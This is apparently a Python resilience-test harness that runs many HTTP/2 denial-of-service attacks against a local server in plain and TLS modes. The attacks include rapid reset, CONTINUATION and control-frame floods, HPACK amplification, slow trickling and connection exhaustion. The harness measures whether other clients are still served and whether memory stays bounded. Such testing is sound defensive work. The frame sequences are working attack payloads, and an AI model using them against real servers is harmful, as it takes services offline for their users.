"""Attacks on a server, in clear and over TLS: what ended each, whether another client was served meanwhile, and
whether the server's resident memory stayed within bounds.

  http2_attacks.py PROGRAM        runs it with the argument plain, then tls; it prints its port"""

import signal
import subprocess
import sys
import threading
import time

from http2_wire import *  # noqa: F403: the vocabulary of this file

WHOLE = END_STREAM | END_HEADERS
MOST_MEMORY = 48 << 20  # that an attack may add to what is resident
ATTACKS = []


def attack(name, alone=False):
    """alone: it takes what there is for all, so that no other client can be served meanwhile."""

    def add(run):
        ATTACKS.append((name, run, alone))
        return run

    return add


def requests(c, count, path, *after, flags=WHOLE, **parts):
    """`count` requests, each followed by frames made from its stream."""
    return b"".join(
        c.headers(s, flags, path=path, **parts) + b"".join(f(s) for f in after) for s in range(1, 2 * count, 2)
    )


def sends(name, data, *pairs, reads=True):
    """An attack by sending all at once, and then reading what comes; or not reading at all."""

    @attack(name)
    def run(c):
        c.send(PREFACE, settings(*pairs), data(c) if callable(data) else data)
        return outcome(c) if reads else cut_off(c)


def outcome(c, seconds=30, **trickling):
    """How the server ended it, in words."""
    resets, code = set(), None
    for kind, _, _, payload in c.frames(seconds, **trickling):
        if kind == RST_STREAM:
            resets.add(int.from_bytes(payload, "big"))
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
    reset = "reset, " if CANCEL in resets else ""
    if not c.ended:
        return reset + "goes on"
    return reset + ("closed" if code is None else error_name(code))


def cut_off(c, seconds=30):
    """The same for a peer that does not read: only that the server hung up can be seen."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            c.socket.settimeout(1)
            c.socket.sendall(frame(PING, 0, 0, b"12345678"))
        except TimeoutError:
            continue
        except OSError:
            return "cut off"
        time.sleep(0.01)
    return "goes on"


def trickles(name, start, piece, seconds=10, pause=0.05):
    """An attack that sends a start, and then a piece every `pause` seconds."""

    @attack(name)
    def run(c):
        c.send(start(c))
        return outcome(c, 30, trickle=lambda: c.send(piece(c)), pause=pause, sending=seconds)


def hello(c, *pairs):
    return PREFACE + settings(*pairs)


# ---- floods -------------------------------------------------------------------------------------

sends("rapid reset", lambda c: requests(c, 5000, "/wait", rst_stream))
sends("streams made to be reset, by windows", lambda c: requests(c, 5000, "/wait", lambda s: window_update(s, 0x7FFFFFFF)))
sends("streams made to be reset, by increments of 0", lambda c: requests(c, 5000, "/wait", lambda s: window_update(s, 0)))
sends(
    "streams made to be reset, by content-length",
    lambda c: requests(c, 5000, "/", lambda s: frame(DATA, END_STREAM, s, b"x"), flags=END_HEADERS, extra=[("content-length", "2")]),
)
sends("malformed requests", lambda c: requests(c, 5000, ""))
sends("requests beyond the limit of streams", lambda c: requests(c, 20000, "/wait"))
sends("CONTINUATION", lambda c: c.headers(1, 0) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 9999)
sends("empty CONTINUATION", lambda c: c.headers(1, 0) + frame(CONTINUATION, 0, 1) * 99999)
sends("CONTINUATION of trailers", lambda c: c.headers(1, END_HEADERS, path="/body") + frame(HEADERS, END_STREAM, 1) + frame(CONTINUATION, 0, 1) * 9999)
sends("PING", frame(PING, 0, 0, b"12345678") * 50000)
sends("PING, and reads nothing", frame(PING, 0, 0, b"12345678") * 50000, reads=False)
sends("SETTINGS", settings((INITIAL_WINDOW_SIZE, 65535)) * 20000)
sends("SETTINGS, and reads nothing", settings((INITIAL_WINDOW_SIZE, 65535)) * 20000, reads=False)
sends("PRIORITY", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 50000)
sends("PRIORITY of many streams", b"".join(frame(PRIORITY, 0, s, b"\0\0\0\0\x10") for s in range(1, 99999, 2)))
sends("empty DATA", lambda c: c.headers(1, END_HEADERS, path="/body") + frame(DATA, 0, 1) * 50000)
sends("DATA of padding", lambda c: c.headers(1, END_HEADERS, path="/body") + frame(DATA, PADDED, 1, b"\0") * 50000)
sends("unknown frames", frame(99, 0, 0, b"x") * 50000)
sends("WINDOW_UPDATE", window_update(0, 1) * 400000)
sends("GOAWAY", goaway(0, 0) * 50000)

# ---- header fields ------------------------------------------------------------------------------

LARGE_FIELD = b"\x40\x01a\x7f\xa1\x1e" + b"z" * 4000  # put into the table, then named again and again
sends(
    "large fields, small on the wire",
    lambda c: frame(HEADERS, 0, 1, block(*fields(scheme=c.scheme)) + LARGE_FIELD)
    + frame(CONTINUATION, END_HEADERS, 1, b"\xbe" * 16000),
)
sends(
    "the same in many requests",
    lambda c: frame(HEADERS, WHOLE, 1, block(*fields(scheme=c.scheme)) + LARGE_FIELD)
    + b"".join(frame(HEADERS, WHOLE, s, block(*fields(scheme=c.scheme)) + b"\xbe" * 16000) for s in range(3, 999, 2)),
)


@attack("too many fields")
def _(c):
    c.send(hello(c), c.headers(1, extra=[(f"x{i}", "") for i in range(1000)]))
    for kind, _, stream, payload in c.frames():
        if kind == HEADERS and stream == 1:
            return status(payload)
    return "no response"


@attack("fields too large")
def _(c):
    parts = block(*fields(scheme=c.scheme), *[("x-large", "x" * 15000)] * 5)
    c.send(hello(c), frame(HEADERS, END_STREAM, 1, parts[:16000]))
    for at in range(16000, len(parts), 16000):
        c.send(frame(CONTINUATION, END_HEADERS if at + 16000 >= len(parts) else 0, 1, parts[at : at + 16000]))
    for kind, _, stream, payload in c.frames():
        if kind == HEADERS and stream == 1:
            return status(payload)
    return "no response"


def status(fields):
    """The status that a block begins with, as nghttp2 writes it: a literal with an indexed name."""
    return fields[2:5].decode() if fields[:1] == b"\x48" and fields[1] == 3 else f"status {fields[:6].hex()}"


# ---- slowness -----------------------------------------------------------------------------------

sends("headers that never end", lambda c: c.headers(1, 0))
trickles("headers, a byte at a time", lambda c: hello(c) + struct.pack(">I", 999)[1:] + b"\1\4\0\0\0\1", lambda c: b"\0")
# So slowly that its nine bytes, which would be an error of their own, are not there in time on any machine.
trickles("a frame's header, a byte at a time", hello, lambda c: b"\0", pause=0.2)
sends("a body that never comes", lambda c: c.headers(1, END_HEADERS, method="POST", path="/body"))
trickles(
    "a body, a byte at a time",
    lambda c: hello(c) + c.headers(1, END_HEADERS, method="POST", path="/body"),
    lambda c: frame(DATA, 0, 1, b"x"),
)
sends("a window of 0", lambda c: c.headers(1, path="/large"), (INITIAL_WINDOW_SIZE, 0))
sends("a window of 0 for 100 large responses", lambda c: requests(c, 100, "/large"), (INITIAL_WINDOW_SIZE, 0))
sends("a window of 0 for 100 streamed responses", lambda c: requests(c, 100, "/stream"), (INITIAL_WINDOW_SIZE, 0))
trickles(
    "a window opened byte by byte",
    lambda c: hello(c, (INITIAL_WINDOW_SIZE, 0)) + c.headers(1, path="/large"),
    lambda c: window_update(1, 1),
)
sends("responses that nobody reads", lambda c: requests(c, 100, "/large"), (INITIAL_WINDOW_SIZE, 1 << 30), reads=False)


@attack("silence")
def _(c):
    return outcome(c)


@attack("a preface, a byte at a time")
def _(c):
    for byte in PREFACE + settings():
        c.send(bytes([byte]))
        time.sleep(0.2)
    return outcome(c)


@attack("not HTTP/2")
def _(c):
    c.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    return outcome(c)


@attack("a TLS handshake that never ends")
def _(c):
    plain = socket.create_connection(("127.0.0.1", c.port))
    plain.sendall(b"\x16\x03\x01\x02\x00\x01" if c.scheme == "https" else b"PRI")
    plain.settimeout(15)
    try:
        while plain.recv(4096):
            pass
    except TimeoutError:
        return "goes on"
    except OSError:
        pass
    return "closed"


# ---- many ---------------------------------------------------------------------------------------


@attack("handlers that go on after a reset")
def _(c):
    """Their streams are gone, but they are counted until they end."""
    c.send(hello(c), requests(c, 100, "/stubborn", rst_stream), c.headers(201))
    for kind, _, stream, payload in c.frames():
        if kind == RST_STREAM and stream == 201:
            return error_name(int.from_bytes(payload, "big"))
        if kind == HEADERS and stream == 201:
            return "served"
    return "no answer"


@attack("more connections than one address may have")
def _(c):
    return f"{left_of([open_from('127.0.0.2', c) for _ in range(300)], 200, c)} left"


def left_of(plain, most, c):
    """How many of connections are left, once no more are than may be; afterwards others get through again."""
    until = time.monotonic() + 10
    while (left := sum(map(is_open, plain))) > most and time.monotonic() < until:
        time.sleep(0.02)
    for p in plain:
        p.close()
    while not is_served(c.port, c.scheme == "https") and time.monotonic() < until:
        time.sleep(0.02)
    return left


def open_from(address, c):
    s = socket.socket()
    s.bind((address, 0))
    s.connect(("127.0.0.1", c.port))
    return s


def is_open(s):
    s.setblocking(False)
    try:
        return any(iter(lambda: s.recv(4096), b""))
    except BlockingIOError:
        return True
    except OSError:
        return False


@attack("more connections than the server may have", alone=True)
def _(c):
    """Each from an address of its own."""
    left = left_of([open_from(f"127.0.1.{i}", c) for i in range(1, 251)], 220, c)
    return f"{'about 220' if 215 <= left <= 220 else left} left"


@attack("a body larger than it may be")
def _(c):
    c.send(hello(c), c.headers(1, END_HEADERS, method="POST", path="/body"), *[frame(DATA, 0, 1, bytes(10000))] * 5)
    for kind, _, stream, payload in c.frames():
        if kind == HEADERS and stream == 1:
            return status(payload)
    return "no response"


@attack("an upload that goes on after the response")
def _(c):
    """The window opens as it is dropped, but not for ever."""
    c.send(hello(c), c.headers(1, END_HEADERS, method="POST"))
    for sent in range(1000):
        c.send(frame(DATA, 0, 1, bytes(16000)))
        for kind, _, stream, payload in c.frames(0.01 if sent % 4 else 0.1):
            if kind == RST_STREAM and stream == 1:
                return error_name(int.from_bytes(payload, "big"))
    return "goes on"


@attack("uploads that no handler reads")
def _(c):
    c.send(hello(c))
    for s in range(1, 100, 2):
        c.send(c.headers(s, END_HEADERS, method="POST", path="/wait"), *[frame(DATA, 0, s, bytes(16000))] * 8)
    return "sent"


# ---- running ------------------------------------------------------------------------------------


def connect(port, secure):
    c = Connection(port, secure)
    c.port = port
    return c


def is_served(port, secure):
    try:
        c = connect(port, secure)
        c.send(hello(c), c.headers(1))
        served = any(kind == DATA and payload == b"hello" for kind, _, _, payload in until_data(c))
        c.close()
        return served
    except OSError:
        return False


def until_data(c):
    for f in c.frames():
        yield f
        if f[0] == DATA:
            return


class Watch(threading.Thread):
    """Another client, again and again while the attack lasts."""

    def __init__(self, port, secure):
        super().__init__(daemon=True)
        self.served, self.over, self.where = 0, False, (port, secure)
        self.start()

    def run(self):
        """On a busy machine the server's short timers may end a client that is honest but slow; not several
        times one after the other."""
        failures = 0
        while failures < 5:
            if is_served(*self.where):
                self.served += 1
                failures = 0
                if self.over:
                    return
            else:
                failures += 1
            time.sleep(0.02)
        self.served = 0


def resident(process):
    with open(f"/proc/{process}/statm") as statm:
        return int(statm.read().split()[1]) * 4096


def reset_peak(process):
    with open(f"/proc/{process}/clear_refs", "w") as control:
        control.write("5")


def peak(process):
    with open(f"/proc/{process}/status") as status_file:
        return next(int(line.split()[1]) * 1024 for line in status_file if line.startswith("VmHWM"))


def run(server, port, secure, how, alone):
    before = resident(server.pid)
    reset_peak(server.pid)
    watch = None if alone else Watch(port, secure)
    c = connect(port, secure)
    result = how(c)
    c.close()
    if watch:
        watch.over = True
        watch.join(20)
    grown = peak(server.pid) - before
    bounded = "" if grown < MOST_MEMORY else f", memory grew by {grown >> 20} MiB"
    other = "" if alone else f", another client is {'served' if watch.served else 'not served'}"
    return f"{result}{other}{bounded}"


def main():
    only = sys.argv[2] if len(sys.argv) > 2 else ""
    for mode in ("plain", "tls"):
        server = subprocess.Popen([sys.argv[1], mode], stdout=subprocess.PIPE, text=True)
        try:
            port = int(server.stdout.readline())
            for name, how, alone in ATTACKS:
                if only in name:
                    print(f"{mode}: {name}: {run(server, port, mode == 'tls', how, alone)}", flush=True)
            server.send_signal(signal.SIGTERM)
            print(f"{mode}: the server ends with {server.wait(20)}", flush=True)
        finally:
            server.kill()


main()
